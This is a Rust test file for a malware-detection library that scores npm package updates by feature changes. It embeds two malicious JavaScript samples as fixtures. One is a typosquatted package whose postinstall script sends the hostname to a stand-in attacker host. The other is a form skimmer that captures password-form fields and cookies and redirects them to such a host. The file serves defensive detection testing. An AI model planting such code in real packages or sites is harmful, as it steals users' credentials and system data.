//! The typosquatting and compromised-update examples, run end to end
//! through tarball loading, extraction, versioning and vectorizing.

mod support;

use malscan_core::clone::canonical_digest;
use malscan_core::features::{extract_features, PatternTable};
use malscan_core::vectorizer::{encode_boolean, BOOLEAN_WIDTH};
use malscan_core::versioning::{parse_timestamp, time_between};
use malscan_core::{build_change_vector, classify_update, load_tarball, FeatureVectorF64, SemVer, UpdateType};

const MOGODB_TEST_JS: &str = r#"var remote = "https://attacker.controlled.host/";
var host = require("os").hostname();
require("request")(remote + "?h=" + host, function() {});
"#;

const JASMIN_COMPONENT_JS: &str = r#"var remote = "https://another.attacker.controlled.host/";
for (var form of document.forms) {
  for (var element of form.elements) {
    if (element.type == "password") {
      form.addEventListener('submit', function() {
        var data = [...this.elements].map(function(elt) {
           return elt.name + ":" + elt.value;
        }).join() + "|" + document.cookie;
        var enc = encodeURIComponent(btoa(data));
        this.action = remote + "?data=" + enc;
      });
      break;
    }
  }
}
"#;

fn mogodb(version: &str) -> Vec<u8> {
    let manifest = format!(r#"{{"name":"mogodb","version":"{version}","scripts":{{"postinstall":"node test.js"}}}}"#);
    support::tarball(
        &[
            ("package/package.json", manifest.as_bytes()),
            ("package/test.js", MOGODB_TEST_JS.as_bytes()),
        ],
        1_564_617_600,
    )
}

#[test]
fn mogodb_features_and_timing() {
    let table = PatternTable::default();
    let a = load_tarball(&mogodb("3.1.9")).unwrap();
    let f: FeatureVectorF64 = extract_features(&a, &table);
    assert_eq!(f.counts(), [0, 0, 0, 1, 0, 0, 0, 1]);

    let prev = SemVer::parse("3.1.8").unwrap();
    let next = SemVer::parse("3.1.9").unwrap();
    assert_eq!(classify_update(&prev, &next), UpdateType::Patch);
    let dt = time_between(
        parse_timestamp("2019-08-01T10:00:00.100Z").unwrap(),
        parse_timestamp("2019-08-01T10:00:00.100500Z").unwrap(),
    )
    .unwrap();
    assert!(dt < 1e-3);

    let earlier: FeatureVectorF64 = extract_features(&load_tarball(&mogodb("3.1.8")).unwrap(), &table);
    let v = build_change_vector("mogodb", "3.1.9", Some(&earlier), &f, UpdateType::Patch, dt).unwrap();
    assert!(v.deltas.iter().all(|d| *d == 0.0));
    let first = build_change_vector("mogodb", "3.1.8", None, &earlier, UpdateType::First, 0.0).unwrap();
    assert_eq!(first.delta("install_scripts"), Some(1.0));
    assert_eq!(first.delta("network_access"), Some(1.0));

    // both versions carry the same content apart from the version field
    assert_eq!(
        canonical_digest(&load_tarball(&mogodb("3.1.8")).unwrap()),
        canonical_digest(&a)
    );
}

#[test]
fn jasmin_compromise_is_a_feature_jump() {
    let table = PatternTable::default();
    let benign = support::tarball(
        &[
            ("package/package.json", br#"{"name":"jasmin","version":"0.0.2"}"#),
            ("package/component.js", b"module.exports = function render(el) { return el; };\n"),
        ],
        0,
    );
    let compromised = support::tarball(
        &[
            ("package/package.json", br#"{"name":"jasmin","version":"0.0.3"}"#),
            ("package/component.js", JASMIN_COMPONENT_JS.as_bytes()),
        ],
        0,
    );
    let before: FeatureVectorF64 = extract_features(&load_tarball(&benign).unwrap(), &table);
    let after: FeatureVectorF64 = extract_features(&load_tarball(&compromised).unwrap(), &table);
    assert_eq!(before.counts(), [0; 8]);
    // "password" literal plus document.cookie; encodeURIComponent plus btoa
    assert_eq!(after.pii_access, 2);
    assert_eq!(after.data_encoding, 2);
    assert_eq!(after.network_access, 0);

    let update = classify_update(&SemVer::parse("0.0.2").unwrap(), &SemVer::parse("0.0.3").unwrap());
    assert_eq!(update, UpdateType::Patch);
    let v = build_change_vector("jasmin", "0.0.3", Some(&before), &after, update, 3.0e7).unwrap();
    assert_eq!(v.delta("pii_access"), Some(2.0));
    assert_eq!(v.delta("data_encoding"), Some(2.0));
    let bits = encode_boolean(&v);
    assert_eq!(bits.len(), BOOLEAN_WIDTH);
    assert_eq!(bits.values.iter().filter(|b| **b == 1.0).count(), 3);
}
